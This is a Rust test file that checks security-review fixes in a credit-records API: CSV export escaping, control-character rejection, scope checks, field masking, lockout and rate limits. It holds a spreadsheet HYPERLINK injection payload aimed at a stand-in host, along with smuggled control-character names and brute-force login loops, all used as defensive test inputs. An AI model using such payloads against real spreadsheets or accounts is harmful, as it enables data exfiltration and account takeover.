//! Findings of the security review, each proven closed over HTTP on both databases: formula injection through CSV
//! control characters in names, and the rest added beside them.

use credit_tests::{
    expect_json, expect_problem, on_both_backends, penalty, penalty_values, test_resident_id, Backend, Session,
    TestApp, TestOptions, CITY, LIANXI, PASSWORD,
};
use credit_types::identity::Role;
use credit_types::records::{Record, RecordSummary, RecordVersion};
use credit_types::ErrorCode;
use credit_types::Page;
use serde_json::{json, Value};

on_both_backends!(
    r24_1_a_formula_in_a_name_or_reference_reaches_the_export_as_text,
    r24_1_names_with_control_characters_are_refused_at_intake,
    r8_3_a_client_without_the_scopes_is_refused_by_every_operation_but_the_public_ones,
    r17_1_a_token_asked_for_fewer_scopes_carries_only_those,
    r16_2_a_credit_service_agency_reads_records_masked_as_on_the_portal,
    r16_2_the_separated_duties_read_no_credit_content,
    r10_7_parallel_wrong_passwords_get_no_more_tries_than_the_lockout_allows,
    r10_7_wrong_current_passwords_count_toward_the_lockout,
    r28_1_a_name_typed_at_a_failed_sign_in_is_not_kept_as_typed,
    r17_1_an_oversized_client_id_reaches_neither_the_limiter_nor_the_audit_trail,
);

/// A spreadsheet formula smuggled in as a subject name and a provider reference.
const FORMULA: &str = "=HYPERLINK(\"https://x.invalid/?\"&C2,\"详情\")";

async fn r24_1_a_formula_in_a_name_or_reference_reaches_the_export_as_text(app: &TestApp) {
    let provider = app.provider("prov", LIANXI).await;
    let mut body = penalty(FORMULA, json!("shared"));
    body["provider_ref"] = json!("+SUM(1,2)");
    let record: Record = expect_json(app.post_as(&provider, "/api/v1/records", &body).await, 201).await;
    assert_eq!(record.subject.name, FORMULA, "the name is stored as given");
    let export = app.get_as(&provider, "/api/v1/records/export.csv").await;
    assert_eq!(export.status(), 200);
    let text = export.text().await.unwrap();
    let mut reader =
        csv::ReaderBuilder::new().has_headers(true).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let row = reader.records().map(Result::unwrap).find(|r| r.get(0) == Some(record.id.as_str())).expect("the row");
    assert_eq!(row.get(1), Some(format!("'{FORMULA}").as_str()), "the name is text, not a formula");
    assert_eq!(row.get(11), Some("'+SUM(1,2)"), "so is the reference");
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "no cell starts a formula: {cell:?}");
    }

    let template = app.get_as(&provider, "/api/v1/catalog/items/ADM_PENALTY/template.csv").await;
    assert_eq!(template.status(), 200);
    let template = template.text().await.unwrap();
    for line in template.trim_start_matches('\u{feff}').lines() {
        for cell in line.split(',') {
            assert!(!cell.trim_matches('"').starts_with(['=', '+', '-', '@']), "template cell {cell:?}");
        }
    }
}

async fn r24_1_names_with_control_characters_are_refused_at_intake(app: &TestApp) {
    let provider = app.provider("prov", LIANXI).await;
    for name in ["九江甲公司\n=1+1", "九江乙\t公司", "九江丙\r公司", "九江丁\u{7}公司"] {
        let response = app.post_as(&provider, "/api/v1/records", &penalty(name, Value::Null)).await;
        let problem = expect_problem(response, 422, ErrorCode::ValidationFailed).await;
        assert!(problem.errors.iter().any(|e| e.field == "subject.name" && e.code == "control_character"), "{name:?}");
    }
}

/// A client of a data-providing unit that also uses data, holding only a scope no operation accepts.
async fn scopeless_client(app: &TestApp) -> Session {
    let office = app.account_office().await;
    let provider = app.provider("prov", LIANXI).await;
    let organisation = app.organisation_of(&provider).await;
    let (_, client) = app.api_client(&office, &organisation, &["subjects:read"]).await;
    client
}

/// A path of the document with its parameters filled in (a year, a sequence number, or an id).
fn concrete(path: &str) -> String {
    path.split('/')
        .map(|segment| match segment {
            "{year}" => "2026",
            "{seq}" => "1",
            s if s.starts_with('{') => "00000000-0000-0000-0000-000000000000",
            s => s,
        })
        .collect::<Vec<_>>()
        .join("/")
}

async fn r8_3_a_client_without_the_scopes_is_refused_by_every_operation_but_the_public_ones(app: &TestApp) {
    let client = scopeless_client(app).await;
    let doc: Value = app.get_json("/api/openapi.json").await;
    let mut checked = 0;
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            let secured = operation.get("security").and_then(Value::as_array).is_some_and(|s| !s.is_empty());
            if !secured {
                continue;
            }
            let url = app.url(&concrete(path));
            let request = match method.as_str() {
                "get" => app.client.get(url),
                "post" => app.client.post(url),
                "put" => app.client.put(url),
                "delete" => app.client.delete(url),
                other => panic!("a method the test does not know: {other}"),
            };
            let response = request.bearer_auth(&client.access_token).json(&json!({})).send().await.unwrap();
            let status = response.status().as_u16();
            let problem: credit_types::Problem = response.json().await.unwrap();
            assert_eq!(status, 403, "{method} {path}: {problem:?}");
            assert!(
                matches!(problem.code, ErrorCode::InsufficientScope | ErrorCode::PersonRequired),
                "{method} {path}: {problem:?}"
            );
            checked += 1;
        }
    }
    assert!(checked > 60, "every secured operation was tried ({checked})");
}

async fn r17_1_a_token_asked_for_fewer_scopes_carries_only_those(app: &TestApp) {
    let office = app.account_office().await;
    let provider = app.provider("prov", LIANXI).await;
    let organisation = app.organisation_of(&provider).await;
    let created: credit_types::identity::ApiClientWithSecret = expect_json(
        app.post_as(
            &office,
            "/api/v1/clients",
            &json!({"organisation_id": organisation, "name": "窄令牌", "scopes": ["records:read", "catalog:read"],
                "rate_limit_per_minute": 100}),
        )
        .await,
        201,
    )
    .await;
    let form = format!(
        "grant_type=client_credentials&client_id={}&client_secret={}&scope=catalog%3Aread",
        created.client.client_id, created.client_secret
    );
    let response = app
        .client
        .post(app.url("/api/v1/auth/token"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form)
        .send()
        .await
        .unwrap();
    let token: credit_types::identity::ClientTokenResponse = expect_json(response, 200).await;
    assert_eq!(token.scope, "catalog:read");
    let narrow = Session { access_token: token.access_token, refresh_token: String::new() };
    assert_eq!(app.get_as(&narrow, "/api/v1/catalog/items").await.status(), 200);
    let refused = app.get_as(&narrow, "/api/v1/records").await;
    expect_problem(refused, 403, ErrorCode::InsufficientScope).await;
}

/// A public penalty of a natural person, by a city provider.
async fn a_persons_public_penalty(app: &TestApp) -> (Record, String, String) {
    let city = app.provider("prov_city", CITY).await;
    let code = test_resident_id("360403", "19750318");
    let name = "李四海".to_owned();
    let body = json!({
        "catalog_item": "ADM_PENALTY",
        "subject": {"kind": "natural_person", "code": code, "name": name},
        "decision_date": "2026-10-09",
        "disclosure_class": "public",
        "values": penalty_values("九市监罚〔2026〕7号"),
    });
    (app.submit(&city, &body).await, code, name)
}

async fn r16_2_a_credit_service_agency_reads_records_masked_as_on_the_portal(app: &TestApp) {
    let (record, code, name) = a_persons_public_penalty(app).await;
    app.create_user("agency", PASSWORD, &[Role::UserUnit], CITY);
    app.execute_sql(
        "UPDATE organisation_kinds SET kind = 'credit_service_agency' WHERE organisation_id = \
         (SELECT organisation_id FROM users WHERE login_name = 'agency')",
    );
    let agency = app.sign_in("agency", PASSWORD).await;
    let read: Record = app.get_json_as(&agency, &format!("/api/v1/records/{}", record.id)).await;
    let public: Value = app.get_json(&format!("/api/v1/portal/records/{}", record.id)).await;
    assert_ne!(read.subject.code, code);
    assert_ne!(read.subject.name, name);
    assert_eq!(read.subject.name, public["subject_name"].as_str().unwrap(), "the name as the portal shows it");
    for field in &read.fields {
        let shown = public["fields"].as_array().unwrap().iter().find(|f| f["key"] == field.key.as_str()).unwrap();
        assert_eq!(field.value, shown["value"].as_str().unwrap(), "{} as the portal shows it", field.key);
    }
    let legal_representative = read.fields.iter().find(|f| f.key == "legal_representative").unwrap();
    assert_ne!(legal_representative.value, "张小三", "a masked field stays masked");
    let page: Page<RecordSummary> = app.get_json_as(&agency, "/api/v1/records").await;
    assert!(page.items.iter().all(|r| r.subject.code != code && r.subject.name != name));
    let versions: Vec<RecordVersion> =
        app.get_json_as(&agency, &format!("/api/v1/records/{}/versions", record.id)).await;
    assert!(versions.iter().flat_map(|v| &v.fields).all(|f| f.value != "张小三"));
    let export = app.get_as(&agency, "/api/v1/records/export.csv").await.text().await.unwrap();
    assert!(!export.contains(&code) && !export.contains(&name), "nor in an export");
    // A government user unit reads the same record in full.
    let unit = app.signed_in("unit", Role::UserUnit, CITY).await;
    let full: Record = app.get_json_as(&unit, &format!("/api/v1/records/{}", record.id)).await;
    assert_eq!((full.subject.code.as_str(), full.subject.name.as_str()), (code.as_str(), name.as_str()));
}

async fn r16_2_the_separated_duties_read_no_credit_content(app: &TestApp) {
    let (record, _, _) = a_persons_public_penalty(app).await;
    for (login, role) in [
        ("sysadmin", Role::SystemAdmin),
        ("dbadmin", Role::DbAdmin),
        ("auditor", Role::SecurityAuditor),
        ("accounts", Role::AccountAdmin),
    ] {
        let session = app.signed_in(login, role, CITY).await;
        let one = app.get_as(&session, &format!("/api/v1/records/{}", record.id)).await;
        expect_problem(one, 404, ErrorCode::NotFound).await;
        assert!(app.record_ids(&session, "/api/v1/records").await.is_empty(), "{login} lists nothing");
        let export = app.get_as(&session, "/api/v1/records/export.csv").await.text().await.unwrap();
        assert_eq!(export.trim_start_matches('\u{feff}').lines().count(), 1, "{login} exports the header alone");
    }
}

async fn r10_7_parallel_wrong_passwords_get_no_more_tries_than_the_lockout_allows(app: &TestApp) {
    app.create_user("target", PASSWORD, &[Role::UserUnit], CITY);
    let attempts = (0..40).map(|n| async move { app.login("target", &format!("Wrong-Guess-{n:04}")).await.status() });
    let statuses = futures_util::future::join_all(attempts).await;
    let tried = statuses.iter().filter(|s| s.as_u16() == 401).count();
    let locked = statuses.iter().filter(|s| s.as_u16() == 429).count();
    assert_eq!(tried, 5, "exactly the threshold got to try a password: {statuses:?}");
    assert_eq!(locked, 35);
    expect_problem(app.login("target", PASSWORD).await, 429, ErrorCode::AccountLocked).await;
}

async fn r10_7_wrong_current_passwords_count_toward_the_lockout(app: &TestApp) {
    app.create_user("changer", PASSWORD, &[Role::UserUnit], CITY);
    let session = app.sign_in("changer", PASSWORD).await;
    for n in 0..5 {
        let body = json!({"current_password": format!("Not-My-Password-{n}"), "new_password": "A-Brand-New-Pass-2026"});
        let refused = app.post_as(&session, "/api/v1/auth/password", &body).await;
        expect_problem(refused, 422, ErrorCode::ValidationFailed).await;
    }
    let body = json!({"current_password": PASSWORD, "new_password": "A-Brand-New-Pass-2026"});
    let locked = app.post_as(&session, "/api/v1/auth/password", &body).await;
    expect_problem(locked, 429, ErrorCode::AccountLocked).await;
    expect_problem(app.login("changer", PASSWORD).await, 429, ErrorCode::AccountLocked).await;
}

async fn r28_1_a_name_typed_at_a_failed_sign_in_is_not_kept_as_typed(app: &TestApp) {
    let typed = "My-Secret-Password-2026";
    expect_problem(app.login(typed, "anything").await, 401, ErrorCode::InvalidCredentials).await;
    let pool = app.pool();
    let mut conn = pool.get().unwrap();
    use credit_api::schema::{audit_events, login_failures};
    use diesel::prelude::*;
    let keys: Vec<String> = login_failures::table.select(login_failures::login_name).load(&mut conn).unwrap();
    assert_eq!(keys.len(), 1);
    assert!(keys.iter().all(|k| !k.contains("Secret") && !k.to_lowercase().contains("secret")));
    let targets: Vec<Option<String>> = audit_events::table.select(audit_events::target_id).load(&mut conn).unwrap();
    assert!(targets.iter().flatten().all(|t| !t.to_lowercase().contains("secret")), "{targets:?}");
}

async fn r17_1_an_oversized_client_id_reaches_neither_the_limiter_nor_the_audit_trail(app: &TestApp) {
    let huge = "x".repeat(500_000);
    let form = format!("grant_type=client_credentials&client_id={huge}&client_secret=s");
    let response = app
        .client
        .post(app.url("/api/v1/auth/token"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form)
        .send()
        .await
        .unwrap();
    assert!(matches!(response.status().as_u16(), 400 | 413), "{}", response.status());
    let pool = app.pool();
    let mut conn = pool.get().unwrap();
    use credit_api::schema::audit_events;
    use diesel::prelude::*;
    let longest: Option<i64> = audit_events::table
        .select(diesel::dsl::max(diesel::dsl::sql::<diesel::sql_types::BigInt>("LENGTH(COALESCE(target_id, ''))")))
        .first(&mut conn)
        .unwrap();
    assert!(longest.unwrap_or(0) < 200, "nothing of it in the trail");
}

/// sign-in requests are counted per address (and IPv6 /64) before any password is checked.
#[actix_web::test]
async fn r10_7_sign_in_requests_are_limited_per_address() {
    for backend in [Backend::Sqlite, Backend::Postgres] {
        let options = TestOptions { signin_per_address_per_minute: Some(3), ..TestOptions::default() };
        let Some(app) = TestApp::spawn_with(backend, options).await else { continue };
        for n in 0..3 {
            expect_problem(app.login(&format!("nobody{n}"), "x").await, 401, ErrorCode::InvalidCredentials).await;
        }
        let limited = app.login("nobody9", "x").await;
        assert!(limited.headers().contains_key("retry-after"));
        expect_problem(limited, 429, ErrorCode::RateLimited).await;
        let token = app
            .client
            .post(app.url("/api/v1/auth/token"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("grant_type=client_credentials&client_id=a&client_secret=b")
            .send()
            .await
            .unwrap();
        expect_problem(token, 429, ErrorCode::RateLimited).await;
    }
}

/// a filing is bounded as a whole, and what an address can make the server store per hour.
#[actix_web::test]
async fn r28_1_evidence_an_address_sends_is_bounded_per_hour() {
    for backend in [Backend::Sqlite, Backend::Postgres] {
        let options = TestOptions { objection_bytes_per_hour: Some(1_000), ..TestOptions::default() };
        let Some(app) = TestApp::spawn_with(backend, options).await else { continue };
        let provider = app.provider("prov", LIANXI).await;
        let record = app.submit(&provider, &penalty("九江证据限额有限公司", json!("public"))).await;
        let pdf = [b"%PDF-1.4\n".as_slice(), &[b'x'; 2_000]].concat();
        let body = crate::objections::objection(&record.id, "13907920099");
        let response = crate::objections::post_filing(&app, None, &body, &[("a.pdf", &pdf)]).await;
        expect_problem(response, 429, ErrorCode::RateLimited).await;
        let stored = std::fs::read_dir(app.data_dir().join("evidence")).map(|d| d.count()).unwrap_or(0);
        assert_eq!(stored, 0, "nothing was stored");
    }
}
